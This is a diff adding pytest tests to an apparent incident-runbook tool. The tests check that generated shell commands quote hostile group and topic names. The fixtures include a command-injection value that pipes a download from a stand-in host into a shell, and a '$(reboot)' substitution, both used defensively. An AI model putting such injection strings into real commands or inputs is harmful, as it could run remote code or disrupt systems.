@@ -171,3 +171,34 @@ def test_task_api_modules_import_no_client_library():
             "{'slack_sdk', 'confluent_kafka', 'kubernetes', 'airflow', 'pyspark'}))")
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert out.stdout.strip() == "[]"
+
+
+EVIL_GROUP = "x; curl evil|sh"
+
+
+@pytest.mark.parametrize("diagnosis", [d for d in DIAGNOSES])
+def test_pasted_commands_take_a_hostile_group_as_one_argument(diagnosis):
+    """Every command of every runbook, pasted into a shell: the group id is one word, nothing runs."""
+    import shlex
+
+    plan = plan_for_finding(finding(diagnosis, group_id=EVIL_GROUP, topic="t$(reboot)"), RUNBOOKS_DIR)
+    commands = [s["command"] for s in plan["diagnostic_steps"] if s["command"]]
+    assert commands
+    for command in commands:
+        words = shlex.split(command.split("   #")[0], comments=True)
+        assert "curl" not in words and "sh" not in words
+        if "--group" in words:
+            assert words[words.index("--group") + 1] == EVIL_GROUP
+        for flag in ("--topic", "--entity-name"):
+            if flag in words:
+                assert words[words.index(flag) + 1] == "t$(reboot)"
+        assert "'x; curl evil|sh'" in command or "--group" not in command
+
+
+def test_plain_names_still_read_as_written_in_commands():
+    plan = plan_for_finding(finding("slow_consumer", group_id="orders-processor", topic="orders.v1"), RUNBOOKS_DIR)
+    commands = "\n".join(s["command"] for s in plan["diagnostic_steps"])
+    assert "--group orders-processor" in commands and "--topic orders.v1" in commands
+    # A command inside the Slack text is quoted the same way.
+    evil = plan_for_finding(finding("slow_consumer", group_id=EVIL_GROUP), RUNBOOKS_DIR)
+    assert "--group 'x; curl evil|sh'`" in "\n".join(evil["next_steps"])
